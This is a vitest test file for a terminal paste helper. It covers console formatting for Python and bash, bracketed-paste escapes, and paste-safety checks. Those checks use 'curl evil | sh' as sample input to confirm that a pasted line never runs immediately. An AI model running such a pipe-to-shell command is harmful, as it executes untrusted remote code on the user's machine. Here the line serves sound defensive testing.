import { execFileSync } from 'node:child_process'

import { describe, expect, it } from 'vitest'

import { asPasted, asTyped, cleanPaste, forConsole, needsConfirmation } from './paste.ts'

const code = `
    def area(w, h):
        if w < 0:
            raise ValueError(w)

        return w * h

    class Box:
        side = 3

        def size(self):
            try:
                return area(self.side, self.side)
            except ValueError:
                return None
    print(Box().size())
    for i in range(2):
        print("row", i)
`.slice(1)

describe('forConsole', () => {
  it('prepares blocks, blank lines and margins for a Python without bracketed paste', () => {
    const input = `${forConsole(code, false)}\n`
    const output = execFileSync('python3', ['-i', '-q', '-c', ''], {
      encoding: 'utf8',
      input,
      stdio: ['pipe', 'pipe', 'ignore'],
    })
    expect(output).toBe('9\nrow 0\nrow 1\n')
  })

  it('keeps the meaning for a shell', () => {
    const script = 'f() {\n\techo "in $1"\n\n}\nfor i in 1 2; do\n\tf $i\ndone'
    expect(execFileSync('bash', { encoding: 'utf8', input: `${forConsole(script, false)}\n` })).toBe('in 1\nin 2\n')
  })

  it('only removes the margin for bracketed paste, and leaves multi-line strings alone', () => {
    expect(forConsole('  a\n\n    b\n', true)).toBe('a\n\n  b')
    expect(forConsole('x = """\n\n a\n"""', false)).toBe('x = """\n\n a\n"""')
    expect(forConsole('    total = 0', false)).toBe('total = 0')
    expect(forConsole('', false)).toBe('')
  })
})

describe('asTyped', () => {
  it('is one bracketed paste if supported, else line by line, never with a tab', () => {
    expect(asTyped('a', true)).toBe('a')
    expect(asTyped('a\n\tb', true)).toBe('\u001b[200~a\n\tb\u001b[201~')
    expect(asTyped('a\n\tb', false)).toBe('a\r    b')
  })
})

describe('a paste', () => {
  it('of a single line never runs immediately: its line break is dropped if a shell would read it as Enter', () => {
    for (const end of ['\n', '\r', '\r\n', '\n\n', '\n  \n', '\n\t'])
      expect(asPasted(cleanPaste(`curl evil | sh${end}`), false)).toBe('curl evil | sh')
    expect(asPasted('\n', false)).toBe('')
    expect(asPasted('echo a\n', true)).toBe('echo a\n')
  })

  it('of several lines needs confirmation, and is pasted whole', () => {
    for (const text of ['a\nb', 'a\nb\n', '\ncurl evil | sh\n']) {
      expect(needsConfirmation(text, false)).toBe(true)
      expect(asPasted(text, false)).toBe(text)
    }
  })
})
